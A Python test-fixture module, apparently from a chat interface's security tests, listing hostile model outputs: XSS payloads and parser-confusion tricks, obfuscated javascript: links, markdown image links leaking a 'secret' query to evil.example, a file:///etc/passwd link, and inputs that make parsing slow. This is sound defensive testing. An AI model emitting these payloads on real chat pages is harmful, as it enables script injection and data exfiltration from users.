"""Outputs of a model that attack the chat page."""

URL = 'https://evil.example/?q=secret'
# HTML that runs scripts, loads resources, changes the page or exploits parsers. Scripts call `attack()`.
# More levels than the HTML parser of browsers keeps.
DEEP = '<svg>' * 600
HTML = [
    '<script>attack()</script>',
    '<img src=x onerror=attack()>',
    f'<img src={URL}>',
    f'<img srcset="{URL} 1x">',
    '<svg onload=attack()>',
    '<svg><script>attack()</script></svg>',
    '<svg><animate onbegin=attack() attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:attack()"><text>x</text></a></svg>',
    f'<svg><image href={URL}></svg>',
    f'<iframe src={URL}></iframe>',
    '<iframe srcdoc="<script>parent.attack()</script>"></iframe>',
    f'<style>body{{display:none}}@import url({URL})</style>',
    f'<p style="position:fixed;inset:0;background:url({URL})">x</p>',
    f'<link rel=stylesheet href={URL}><link rel=prefetch href={URL}><link rel=dns-prefetch href=//evil.example>',
    f'<meta http-equiv=refresh content="0;url={URL}">',
    '<base href=https://evil.example/>',
    f'<form action={URL}><button>x</button><input name=attributes><input name=nodeName></form>',
    f'<object data={URL}></object><embed src={URL}>',
    f'<video src={URL} poster={URL} autoplay></video><audio src={URL}></audio>',
    f'<table background={URL}><tr><td background={URL}>x</td></tr></table>',
    '<details open ontoggle=attack()>x</details>',
    '<input autofocus onfocus=attack()><p contenteditable autofocus onfocus=attack()>',
    '<a href="java\tscript:attack()">x</a><a href="&#106;avascript:attack()">x</a>',
    f'<a href="https://a.example" ping="{URL}" target=_self rel=opener onclick=attack()>x</a>',
    '<a href="/v1/models">x</a><a href="tel:1">x</a><a href="ftp://a.example">x</a>',
    '<a id=turns name=turns>x</a><a id=turns>y</a><p id=composer>x</p>',
    '<button popovertarget=settings>x</button><button commandfor=settings command=show-modal>x</button>',
    '<dialog open>x</dialog><template><script>attack()</script></template><slot name=x></slot>',
    '<math><mi//xlink:href="data:x,<script>attack()</script>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attack()&gt;">',
    '<math><mtext><table><mglyph><style><math><img src=x onerror=attack()>',
    '<svg></p><style><a id="</style><img src=1 onerror=attack()>">',
    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=attack()>">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=attack()></style></annotation-xml></math>',
    '<noscript><p title="</noscript><img src=x onerror=attack()>">',
    '<xmp><p title="</xmp><img src=x onerror=attack()>">',
    '<select><style></select><img src=x onerror=attack()></style></select>',
    '<!--><img src=x onerror=attack()>--><!-- --!><img src=x onerror=attack()>',
    '<![CDATA[><img src=x onerror=attack()>]]><?xml-stylesheet href="javascript:attack()"?>',
    '"></div></article></main></script><script>attack()</script>',
    f'{DEEP}</p><style><!--</style><img src=x onerror=attack()>',
    f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{URL}"]}}]}}</script>',
]
# Addresses that are not those of web pages or mail, or that contain markup.
_ADDRESSES = [
    'javascript:attack()',
    'JaVaScRiPt:attack()',
    'java&#x0A;script:attack()',
    'javascript&colon;attack()',
    '&Tab;javascript:attack()',
    '\x01javascript:attack()',
    '\ufeffjavascript:attack()',
    'javascript://%0aattack()',
    'vbscript:attack()',
    'data:text/html,<script>attack()</script>',
    'data:image/svg+xml,<svg onload=attack()>',
    'data:image/png;base64,AAAA',
    'file:///etc/passwd',
    'blob:x',
    '//evil.example/x',
    '\\\\evil.example',
    '/v1/models',
    '#composer',
    'https:javascript:attack()',
    'http:evil.example',
    'https://evil.example/"onmouseover="attack()',
    "https://evil.example/'><img src=x onerror=attack()>",
]
MARKDOWN = [
    f'![x]({URL})',
    f'[![x]({URL})]({URL})',
    f'![x][a]\n\n[a]: {URL}',
    *(text for url in _ADDRESSES for text in (f'[x]({url})', f'[x](<{url}>)', f'<{url}>', f'![x]({url})')),
    '[x](https://a.example "\\" onmouseover=attack()")',
    '[<img src=x onerror=attack()>](https://a.example)',
    '```"><img/src=x/onerror=attack()>\nx\n```',
    '```</code></pre><script>attack()</script>\nx\n```',
    '`</code><img src=x onerror=attack()>`',
    '|<img src=x onerror=attack()>|\n|-|\n|</table><script>attack()</script>|',
    '- <script>attack()</script>\n\n> <style>*{display:none}</style>\n\n# <iframe src=https://evil.example>',
    '&lt;script&gt;attack()&lt;/script&gt; \\<script>attack()\\</script>',
    '2147483648. x\n\n999999999. x',
    '<tool_call>{"name": "<img src=x onerror=attack()>"}</tool_call>',
    '\x00\x01\x7f\x85\u2028\u2029\ufffe\uffff\u202e\u2066 reversed `\u202e code` [\u202elink](https://a.example)',
    f'{"a" * 5000} {chr(0x200B) * 3000} Z{chr(0x321) * 3000} {chr(0xFDFD) * 100}',
]


def _growing(pattern):
    return lambda size: ''.join(pattern(i) for i in range(1, int((2 * size) ** 0.5)))


# Texts that take long to parse or lay out, by size.
SLOW = {
    'back-ticks': _growing(lambda i: f'{"`" * i} a '),
    'quotes': _growing(lambda i: f'{">" * i}a\n'),
    'lists': _growing(lambda i: f'{" " * i}- a\n'),
    'references': lambda size: '[a]: ' + 'x' * (size // 2) + '\n\n' + '[a] ' * (size // 8),
    'brackets': lambda size: '[' * (size // 2) + 'a' + '](b)' * (size // 8),
    'parentheses': lambda size: '[a](' + '(' * size + ')',
    'table': lambda size: '|a|b|\n|-|-|\n' + '|x|y|\n' * (size // 6),
    'wide table': lambda size: '|a' * 900 + '|\n' + '|-' * 900 + '|\n' + '|\n' * (size // 2),
    'lazy lines': lambda size: '> ' * 50 + 'a\n' + 'b\n' * (size // 2),
    'code': lambda size: '```\n' + 'x\n' * (size // 2),
    **{
        part: lambda size, part=part: part * (size // len(part))
        for part in (
            *('[', '![', '[a](', '[a](b "', '(', '*', '*a ', 'a**b**c* ', '**a*b_c', '_', '_a_ ', '~~a', '`a', '`a` '),
            *('<', '<a ', '<!--', '<!-- a\n', '<http://a', '<http://a> ', '|', '|a', '|\n', 'a|b\n-|-\n\n'),
            *('>', '> ', '> - ', '- ', '1. ', '- a\n', '- a\n\n', '* a\n\n b\n', '1) a\n2. b\n', '#', '# a\n'),
            *('***\n', 'a\n---\n', '```\n', '\\', '&', '&amp;', '\\(', '\\[ ', '$a ', '$$a', '\n', ' ', '\t', 'a\r\n'),
            *('\0', 'a', '\u0e01', '\u0321'),
        )
    },
}
